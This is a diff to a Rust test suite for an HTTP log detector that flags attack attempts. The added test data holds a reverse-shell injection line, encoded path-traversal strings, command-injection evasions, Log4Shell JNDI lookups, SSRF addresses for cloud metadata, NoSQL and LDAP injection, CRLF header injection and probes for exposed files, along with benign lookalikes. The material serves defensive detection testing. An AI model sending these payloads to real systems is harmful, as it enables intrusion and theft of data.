@@ -118,6 +118,68 @@ const TARGETS: &[(&str, &str)] = &[
         BROWSER,
     ),
     ("/ping?host=a;bash+-i+>%26+/dev/tcp/192.0.2.1/9", BROWSER),
+    // By characters that programs take for others, in other forms of an address, and by operators.
+    (
+        "/view?file=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/conf",
+        BROWSER,
+    ),
+    (
+        "/view?file=%uff0e%uff0e%u2215%uff0e%uff0e%u2216conf",
+        BROWSER,
+    ),
+    ("/view?file=..%ef%bc%8f..%ef%bc%8fconf", BROWSER),
+    ("/view?file=..%c0%2f..%c1%1cconf", BROWSER),
+    ("/view?file=%5cu002e%5cu002e/%5cu002e%5cu002e/conf", BROWSER),
+    ("/view?file=/proc/1/cmdline", BROWSER),
+    ("/..;/etc/passwd", BROWSER),
+    ("/view?file=%27/etc/passwd%27", BROWSER),
+    ("/ping?host=a;w%27h%27oami", BROWSER),
+    ("/ping?host=a;/???/??t%20/x", BROWSER),
+    ("/ping?host=a;c${x}at%20/x", BROWSER),
+    ("/hello?name={{request%7Cattr(%27x%27)}}", BROWSER),
+    ("/hello?name={{=7*7}}", BROWSER),
+    ("/?x=${j${k8s:k5:-nd}i:ldap://a}", BROWSER),
+    ("/?x=%5cu0024%5cu007bjndi:ldap://a}", BROWSER),
+    ("/?x=${java:version}", BROWSER),
+    ("/x?u=http://metadata/computeMetadata/v1/", BROWSER),
+    ("/x?u=http://0xa9.0xfe.0xa9.0xfe/", BROWSER),
+    ("/x?u=http://169.254.43518/", BROWSER),
+    ("/x?u=http://025177524776/", BROWSER),
+    ("/x?u=http://[0:0:0:0:0:ffff:a9fe:a9fe]/", BROWSER),
+    ("/x?u=169.254.169.254/latest/", BROWSER),
+    ("/x?u=http:169.254.169.254/", BROWSER),
+    (
+        "/x?u=http://%E2%91%A0%E2%91%A5%E2%91%A8.254.169.254/",
+        BROWSER,
+    ),
+    (
+        "/x?u=http://169%E3%80%82254%E3%80%82169%E3%80%82254/",
+        BROWSER,
+    ),
+    ("/x?url=http://[::ffff:127.0.0.1]/", BROWSER),
+    ("/x?url=http://0177.0.0.1/", BROWSER),
+    ("/x?u=unix:///run/x.sock", BROWSER),
+    ("/l?user[$ne]=x&pass[$ne]=y", BROWSER),
+    ("/l?pass%5B%24regex%5D=.*", BROWSER),
+    ("/l?u=admin)(%26)", BROWSER),
+    ("/l?u=*)(objectClass=*", BROWSER),
+    ("/l?u=%27%5D%20%7C%20//*", BROWSER),
+    ("/l?u=%27+or+count(/*)=1", BROWSER),
+    ("/x?q=%E5%98%8A%E5%98%8DSet-Cookie:a", BROWSER),
+    ("/x?q=%23%0dSet-Cookie:a=b", BROWSER),
+    ("/x?q=%0d%0aContent-Length:%200", BROWSER),
+    ("/x?o=rO0ABXNyABdq", BROWSER),
+    ("/x?GLOBALS[x]=1", BROWSER),
+    ("/x?o=%AC%ED%00%05", BROWSER),
+    ("/.git/", BROWSER),
+    ("/.env.swp", BROWSER),
+    ("/backup.tar.gz", BROWSER),
+    ("/db.sqlite3", BROWSER),
+    ("/app/heapdump", BROWSER),
+    ("/phpinfo.php", BROWSER),
+    ("/rest/tinymce/1/macro/preview", BROWSER),
+    ("/nacos/v1/auth/users?pageNo=1", BROWSER),
+    ("/+CSCOT+/translation-table?type=mst", BROWSER),
 ];
 
 /// Requests that mean little alone: informational whatever the status.
@@ -130,6 +192,9 @@ const PIECES: &[&str] = &[
     "/search?q=%3Cb%3Ehello",
     "/search?q=%3Cbr",
     "/go?to=javascript:x",
+    // What somebody looks for.
+    "/search?q=sleep(5)+in+python",
+    "/search?q=what+is+__class__+in+python",
 ];
 
 /// Attempts whose status does not show whether they succeeded.
@@ -207,6 +272,19 @@ const ORDINARY: &[&str] = &[
     "/login?redirect_uri=http://127.0.0.1:39123/callback",
     "/login?next=//shop.example/cart",
     "/search?q=R%26D%20set",
+    "/search?q=what+is+%2Fetc%2Fpasswd",
+    "/wiki/Etc/passwd",
+    "/repo/src/branch/main/etc/passwd",
+    "/repo/blob/main/.env",
+    "/team/repo/raw/main/sql/dump.sql",
+    "/repo/blame/main/.htaccess",
+    "/collect?url=http://localhost:4200/dashboard",
+    "/pixel?u=http%3A%2F%2Flocalhost%3A3000%2F&r=",
+    "/api?where[status][$ne]=archived&filter[or][0][a]=1",
+    "/api?filter=%7B%22age%22:%7B%22$ne%22:null%7D%7D",
+    "/search?q=%E4%BD%A0%E5%A5%BD%EF%BC%9B%EF%BC%88id%EF%BC%89",
+    "/mail?body=Hello%0D%0A%0D%0AYours%0D%0ABob",
+    "/q?tags=jazz|rock'n'roll;punk",
     "/note?text=one%0aidea",
     "/api/items?fields=name|id",
     "/api/items?ids=1|2|3;sort=id",
@@ -267,6 +345,60 @@ fn where_the_status_tells_nothing_an_answer_is_none() {
         let alerts = &alerts[&client];
         assert!(has(alerts, "http-attack-attempt"), "{agent}: {alerts:?}");
         assert!(!has(alerts, "http-attack-answered"), "{agent}: {alerts:?}");
+    }
+}
+
+/// Fields beside those of an access log, with an attack in them, and what is none.
+const FIELDS: &[(&str, &str, bool)] = &[
+    ("x-api-version", "${${lower:j}ndi:ldap://192.0.2.1}", true),
+    ("x-forwarded-for", "${jndi:ldap://192.0.2.1}", true),
+    ("accept-language", "${jndi:ldap://192.0.2.1}", true),
+    ("origin", "${jndi:ldap://192.0.2.1}", true),
+    (
+        "content-type",
+        "%{(#_='x').(#dm=@ognl.OgnlContext@X)}",
+        true,
+    ),
+    ("spring.cloud.function.routing-expression", "T(x)", true),
+    ("x-middleware-subrequest", "middleware:middleware", true),
+    ("x-pan-authcheck", "off", true),
+    ("content-type", "multipart/form-data; boundary=x", false),
+    ("accept-language", "en-US,en;q=0.9", false),
+    ("origin", "https://a.example", false),
+    ("x-api-version", "2", false),
+];
+
+#[test]
+fn attacks_in_other_fields_are_informational() {
+    let folder = tempfile::tempdir().unwrap();
+    let file = folder.path().join("events.jsonl");
+    let events = FIELDS.iter().enumerate().map(|(client, (name, value, _))| {
+        let at = "2026-11-24T10:00:00Z";
+        format!(
+            "{{\"@timestamp\":\"{at}\",\"event\":{{\"kind\":\"event\"}},\"source\":{{\"ip\":\"198.51.0.{client}\"}},\"url\":{{\"original\":\"/\"}},\
+             \"http\":{{\"request\":{{\"method\":\"GET\",\"headers\":{{\"{name}\":[\"{value}\"]}}}},\
+             \"response\":{{\"status_code\":200}}}}}}\n"
+        )
+    });
+    std::fs::write(&file, events.collect::<String>()).unwrap();
+    let ran = crate::command::run(&["detect", "-o", "json", file.to_str().unwrap()]);
+    let alerts = crate::command::records(&ran.out);
+    for (client, (name, value, is_attack)) in FIELDS.iter().enumerate() {
+        let of = |alert: &&serde_json::Value| {
+            alert["http_trace"]["alert"]["clients"][0]["value"] == format!("198.51.0.{client}")
+        };
+        let raised = alerts.iter().filter(of);
+        let raised: Vec<_> = raised.map(|alert| &alert["rule"]["id"]).collect();
+        let case = format!("{name}: {value}: {raised:?} {}", ran.err);
+        assert_eq!(
+            raised.iter().any(|id| **id == "http-attack-attempt"),
+            *is_attack,
+            "{case}"
+        );
+        assert!(
+            !raised.iter().any(|id| **id == "http-attack-answered"),
+            "{case}"
+        );
     }
 }
 
